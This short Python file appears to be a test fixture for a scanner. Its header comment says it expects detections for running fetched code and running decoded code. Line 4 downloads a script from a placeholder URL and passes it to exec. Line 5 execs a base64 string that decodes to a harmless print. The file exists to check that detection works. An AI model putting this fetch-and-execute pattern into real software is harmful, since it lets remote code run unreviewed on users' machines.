# expect: exec-of-fetched-text:4 exec-of-decoded-text:5
import threading

exec(__import__("urllib.request").request.urlopen("https://example.com/tool.py").read())
threading.Thread(target=exec, args=(__import__("base64").b64decode("cHJpbnQoMSk="),)).start()
